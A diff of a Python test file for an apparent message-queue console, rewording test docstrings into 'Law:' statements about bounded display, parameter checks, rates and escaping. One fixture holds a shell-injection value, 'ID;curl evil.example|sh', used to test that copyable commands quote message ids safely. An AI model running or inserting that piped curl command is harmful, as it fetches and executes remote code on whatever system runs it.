@@ -1,4 +1,4 @@
-"""Bodies, parameters, sums and words: what comes from outside is bounded and shown as what it is."""
+"""Bodies, parameters, sums and words from outside are limited, and shown as what they are."""
 
 import json
 import time
@@ -27,7 +27,7 @@ from orderlymq_protocol.names import retry_topic
 
 
 def test_a_body_is_json_text_or_hex_by_itself() -> None:
-    """The form that suits it is chosen unless another is asked for."""
+    """Law: a body is shown as JSON, text or hex, whichever suits, unless another form is requested."""
     forms = {
         body: show(body, "auto").form
         for body in (
@@ -47,7 +47,7 @@ def test_a_body_is_json_text_or_hex_by_itself() -> None:
 
 
 def test_json_is_laid_out_and_its_values_stay_as_they_are_written() -> None:
-    """No digit of a number is lost, no escape resolved."""
+    """Law: JSON is indented, but its values stay as written: no digit is lost and no escape resolved."""
     body = b'{"n":12345678901234567890.10,"s":"a\\u003cb, {}","e":[],"l":[1,{"k":null}]}'
 
     shown = show(body, "auto")
@@ -69,7 +69,7 @@ def test_json_is_laid_out_and_its_values_stay_as_they_are_written() -> None:
 
 @given(st.binary(max_size=300), st.sampled_from(["auto", "text", "json", "hex"]))
 def test_any_body_is_shown_within_the_limit(body: bytes, form: str) -> None:
-    """It says when it is cut."""
+    """Law: any body is shown within the limit, and says when it is cut."""
     shown = show(body, form, limit=64)
 
     assert len(shown.text) <= 64 * 6
@@ -83,7 +83,7 @@ def test_any_body_is_shown_within_the_limit(body: bytes, form: str) -> None:
     )
 )
 def test_json_that_is_laid_out_means_the_same(value: object) -> None:
-    """As long as it is whole and has no character that is shown by a picture."""
+    """Law: indented JSON has the same meaning, if it is not cut and has no character that is shown by a symbol."""
     body = json.dumps([value]).encode()
     shown = show(body, "json")
     if not shown.cut:
@@ -91,7 +91,7 @@ def test_json_that_is_laid_out_means_the_same(value: object) -> None:
 
 
 def test_deep_and_long_json_costs_no_more_than_its_limit() -> None:
-    """Neither the depth nor the length of a stranger's body."""
+    """Law: deep or long JSON costs no more than its limit."""
     for body in (b"[" * 60_000, b"[" * 5_000 + b"]" * 5_000, b'["' + b"x" * 60_000 + b'"]'):
         shown = show(body, "auto")
         assert len(shown.text) <= SHOWN_MAX
@@ -102,7 +102,7 @@ def test_deep_and_long_json_costs_no_more_than_its_limit() -> None:
     "text", ["x", "1.5", "-1", "9" * 30, "9223372036854775808", "١", "1e3", "0x10"]
 )
 def test_a_number_in_another_form_is_refused(text: str) -> None:
-    """With a sentence that names the parameter."""
+    """Law: a number of another form is refused with its parameter's name."""
     with pytest.raises(BadParameter, match="offset"):
         Parameters({"offset": text}).number("offset", 0)
 
@@ -122,7 +122,7 @@ def test_a_name_that_no_topic_has_is_refused(text: str) -> None:
 
 
 def test_a_sum_is_unknown_or_a_lower_bound_where_a_part_is_missing() -> None:
-    """Never zero."""
+    """Law: a sum with a missing part is unknown or a lower bound, never zero."""
     known: Reading[int] = Reading(3, "", 0.0)
     silent: Reading[int] = Reading(None, "no answer within 4 s", 0.0)
 
@@ -139,7 +139,7 @@ def test_a_sum_is_unknown_or_a_lower_bound_where_a_part_is_missing() -> None:
 
 
 def test_a_command_to_copy_holds_an_id_as_one_word() -> None:
-    """The producer of a message has chosen it."""
+    """Law: in a command to copy, an id is quoted as one word, because a producer chose it."""
     letter = {"group": "billing", "topic": "orders", "messageId": "ID;curl evil.example|sh"}
     watch = {"examinedAt": 1, "blockedKnown": True, "failing": [letter]}
 
@@ -149,7 +149,7 @@ def test_a_command_to_copy_holds_an_id_as_one_word() -> None:
 
 
 def test_a_rate_takes_two_looks_and_begins_again_with_a_new_leader() -> None:
-    """A counter that fell is another process's."""
+    """Law: a rate needs two looks, and begins again if the counter falls (a new leader)."""
     rates = Rates()
 
     def look(at_s: float, count: int) -> Figure:
@@ -165,7 +165,7 @@ def test_a_rate_takes_two_looks_and_begins_again_with_a_new_leader() -> None:
 
 
 def test_another_leader_is_another_counter_also_when_it_has_counted_more() -> None:
-    """The counts of two processes make no rate."""
+    """Law: after a change of leader the rate begins again, even if the new counter is larger."""
     rates = Rates()
 
     def look(at_s: float, leader: int, count: int) -> Figure:
@@ -180,7 +180,7 @@ def test_another_leader_is_another_counter_also_when_it_has_counted_more() -> No
 
 
 def test_lists_are_searched_and_cut_here() -> None:
-    """Names that begin with what is looked for come first; a page beyond the end is the last."""
+    """Law: lists are searched and cut in the console: names that begin with the text come first, and a page beyond the end is the last one."""
     names = [f"topic-{number}" for number in range(10_000)]
 
     assert search(["my-orders", "orders", "x"], "ORD", str) == ["orders", "my-orders"]
@@ -215,7 +215,7 @@ def test_numbers_times_and_sizes_read_well() -> None:
 
 
 def test_every_time_says_that_it_is_of_utc() -> None:
-    """Also one of today, which has no day: who reads it at night compares it with other clocks."""
+    """Law: each shown time says UTC, even one of today without its date."""
     now_ms = int(time.time() * 1000)
     shown = moment(now_ms)
 
@@ -236,7 +236,7 @@ def test_signing_in_leads_back() -> None:
 
 
 def test_the_lag_of_a_group_is_what_its_members_may_consume() -> None:
-    """Topics that they no longer want are not in it; while nobody is online all are, because anybody may come."""
+    """Law: a group's lag counts topics that its members want; if nobody is online, all topics."""
     queues = {
         MessageQueue(topic, "a", 0): OffsetWrapper(broker_offset=end, consumer_offset=0)
         for topic, end in (("orders", 2), ("former", 7), (retry_topic("billing"), 1))
@@ -249,7 +249,7 @@ def test_the_lag_of_a_group_is_what_its_members_may_consume() -> None:
 
 
 def test_the_link_to_the_json_of_a_page_names_the_same_thing() -> None:
-    """Also where a name has a character that an address escapes, as that of every dead-letter topic."""
+    """Law: a page's link to its JSON names the same object, even if the name has characters to escape (dead-letter topics)."""
     request: web.Request = make_mocked_request("GET", "/topics/%25DLQ%2541bc")
     page = AuditPage(lines=())
 
